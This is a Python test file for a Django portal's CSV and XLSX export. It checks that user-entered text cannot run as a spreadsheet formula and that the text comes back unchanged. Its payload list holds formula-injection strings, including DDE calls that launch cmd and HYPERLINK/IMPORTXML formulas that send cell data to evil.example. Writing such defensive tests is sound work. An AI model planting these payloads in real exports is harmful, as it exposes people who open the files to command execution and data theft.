"""S7: what people typed never runs as a formula in a spreadsheet, numbers stay numbers, and the words come back as they were."""

import csv
import io
from typing import Any

import django_tables2 as tables
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from partners.formulas import unmarked
from portal.shell.exports import table_file

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0=")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "SUM(1+1)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "A1", "2+5+cmd|' /C notepad'!'A1'", '"=1"', "1",
)  # fmt: skip
PAYLOADS = [start + body for start in STARTS for body in BODIES] + ["\ufeff=1+1", "'=1", "=\r\n1", "@SUM(A1)", '","=1+1', ";=1+1", "|=1"]


class WordsTable(tables.Table):
    words = tables.Column()
    number = tables.Column()


def table_of(rows: list[tuple[str, Any]]) -> WordsTable:
    return WordsTable([{"words": words, "number": number} for words, number in rows])


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1:]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell of a CSV file for a formula; it looks past blanks and knows full-width signs."""
    return cell.lstrip(" \t\r\n\u00a0\u3000\ufeff")[:1] in {"=", "+", "-", "@", "＝", "＋", "－", "＠"} or cell[:1] in {"\t", "\r", "\n"}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_payload_runs_in_csv_or_becomes_a_formula_in_xlsx(payload: str) -> None:
    table = table_of([(payload, -5)])
    [[words, number]] = read_csv(table_file(table, "csv"))
    assert not runs(words)
    assert unmarked(words) == payload
    assert number == "-5", "a number below zero is no formula"
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(table_file(table, "xlsx"))).get_sheet_by_index(0).to_python()
    assert sheet[1][1] == -5
    assert str(sheet[1][0]).replace("_x000D_", "\r").strip() in {payload.strip(), payload.replace("\r\n", "\n").strip()}


@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=30))
def test_any_words_come_back_from_csv_and_never_run(words: str) -> None:
    [[cell, _number]] = read_csv(table_file(table_of([(words, 1)]), "csv"))
    assert not runs(cell)
    assert cell in {words, f"'{words}"}
    assert unmarked(cell) == words
